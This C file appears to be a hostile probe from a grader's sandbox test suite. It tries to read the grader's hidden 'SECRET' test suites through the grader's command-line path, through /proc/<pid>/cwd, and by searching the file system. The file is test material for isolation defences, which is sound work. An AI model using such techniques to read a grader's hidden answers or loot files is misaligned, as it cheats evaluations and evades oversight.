/* Reads the grader's suites: by the absolute path in the grader's command line, through
 * /proc/GRADER/cwd (the grader's working directory), and by searching the file system for them. */
#include "hostile.h"

#include <dirent.h>
#include <sys/stat.h>

/* Every file named SECRET within 6 levels of /, outside /usr, /proc, /sys and /dev. */
static void search(void) {
  static char stack[4096][512];
  static int depth_of[4096];
  int top = 0;
  snprintf(stack[top], sizeof stack[top], "%s", "");
  depth_of[top++] = 0;
  while (top > 0) {
    char dir_path[512];
    snprintf(dir_path, sizeof dir_path, "%s", stack[--top]);
    int depth = depth_of[top];
    DIR* dir = opendir(dir_path[0] ? dir_path : "/");
    if (!dir) continue;
    struct dirent* entry;
    while ((entry = readdir(dir))) {
      if (entry->d_name[0] == '.') continue;
      char path[512];
      if (snprintf(path, sizeof path, "%s/%s", dir_path, entry->d_name) >= (int)sizeof path) continue;
      if (!strcmp(path, "/usr") || !strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev")) continue;
      if (!strcmp(entry->d_name, "SECRET")) loot_first_line("found", path);
      struct stat info;
      if (depth < 6 && top < 4096 && lstat(path, &info) == 0 && S_ISDIR(info.st_mode)) {
        snprintf(stack[top], sizeof stack[top], "%s", path);
        depth_of[top++] = depth + 1;
      }
    }
    closedir(dir);
  }
}

int main(void) {
  int grader = find_grader();
  char path[8192];
  if (grader > 0) {
    snprintf(path, sizeof path, "%s/SECRET", grader_option(grader, "--suites"));
    loot_first_line("suites", path);
    snprintf(path, sizeof path, "/proc/%d/cwd/SECRET", grader);
    loot_first_line("cwd", path);
  }
  search();
  return 7;
}
